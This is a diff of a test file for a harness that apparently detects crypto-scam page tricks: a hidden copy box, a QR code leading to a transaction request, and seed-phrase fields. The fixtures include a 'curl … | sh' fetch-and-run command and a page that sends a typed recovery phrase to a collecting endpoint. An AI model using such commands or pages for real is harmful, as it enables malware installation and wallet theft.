@@ -33,16 +33,15 @@ document.getElementById('go').onclick = () => { alert(document.getElementById('o
     assert.equal(browsing.dialogs[0], `alert: ${ACCOUNT} false`)
   })
 
-  it('is where a QR code leads, as a window of its own', async (t) => {
-    const code = (to: string) => `<div style="width:220px">${encodeQR(to, 'svg', { scale: 4 })}</div>`
+  it('is where a QR code leads, as a window of its own', async () => {
+    const code = (to: string) =>
+      `<img width="260" height="260" src="data:image/gif;base64,${Buffer.from(encodeQR(to, 'gif', { scale: 6 })).toString('base64')}">`
     const asks = page(`<button id="b">Receive</button><script>
 document.getElementById('b').onclick = async () => { const [from] = await ethereum.request({ method: 'eth_requestAccounts' }); await ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: '0x${'12'.repeat(20)}', value: '0x1' }] }) }</script>`)
     const { asked, browsing } = await browsePages({
       '/': page(`<h1>Scan to receive</h1>${code('http://shop.elsewhere.test/pay')}`),
       '/pay': asks,
     })
-    // A machine that is busy with other things does not read codes in time.
-    if (browsing.cutOff === 'codes') return t.skip('the code was not read in time')
     assert.equal(browsing.codes[0]?.kind, 'link')
     assert.deepEqual(
       asked.map(({ method }) => method),
@@ -70,5 +69,48 @@ document.getElementById('b').onclick = () => { alert(document.getElementById('b'
     })
     assert.equal(browsing.dialogs[0], 'alert: Copy now')
     assert.equal(browsing.copies[0]?.shown, false)
+  })
+
+  it('is what stands further down in a part that scrolls by itself, and not what lies outside of it', async () => {
+    const copy = (
+      command: string,
+      style = '',
+    ) => `<textarea id="c" readonly style="${style}">${command}</textarea><button id="b">Copy</button><script>
+document.getElementById('b').onclick = () => { document.getElementById('c').select(); document.execCommand('copy') }</script>`
+    const pane = (inside: string) =>
+      page(`<style>body{margin:0}#app{height:100vh;overflow:hidden}main{height:100%;overflow:auto;position:relative}</style>
+<div id="app"><main><div style="height:3000px">Install</div>${inside}</main></div>`)
+    const honest = await browsePages({ '/': pane(copy('curl -s http://drop.test/a | sh')) })
+    assert.equal(honest.browsing.copies[0]?.shown, true)
+    const hostile = await browsePages({
+      '/': pane(copy('curl -s http://drop.test/a | sh', 'position:absolute;top:-900px')),
+    })
+    assert.equal(hostile.browsing.copies[0]?.shown, false)
+  })
+
+  it('is a phrase in each field that wants one, in any language, and an account only where one of a wallet is wanted', async () => {
+    const wanted = [
+      'cüzdan kurtarma kelimeleri',
+      'Сид-фраза или адрес кошелька',
+      '助记词或钱包地址',
+      'メールアドレス',
+      'Wallet address',
+    ]
+    const { browsing } = await browsePages({
+      '/': page(`${wanted.map((one) => `<input placeholder="${one}">`).join('')}<input name="addr"><button id="go">Check</button><script>
+document.getElementById('go').onclick = () => { alert([...document.querySelectorAll('input')].map((one) => /^0x/.test(one.value) ? 'account' : one.value.split(' ').length > 9 ? 'words' : one.value)) }</script>`),
+    })
+    assert.equal(browsing.dialogs[0], 'alert: words,words,words,words,account,words')
+  })
+
+  it('is a phrase in a field that says it takes an account and takes nothing else', async () => {
+    const { browsing } = await browsePages({
+      '/': page(`<p>Words, please</p><input placeholder="Wallet address"><button id="go">Go</button><script>
+document.getElementById('go').onclick = () => { const { value } = document.querySelector('input'); if (/^(?:[a-z]{3,8} ){11}[a-z]{3,8}$/.test(value)) fetch('/kept', { method: 'POST', body: value }) }</script>`),
+    })
+    assert.deepEqual(
+      browsing.typed.map(({ kind }) => kind),
+      ['phrase'],
+    )
   })
 })
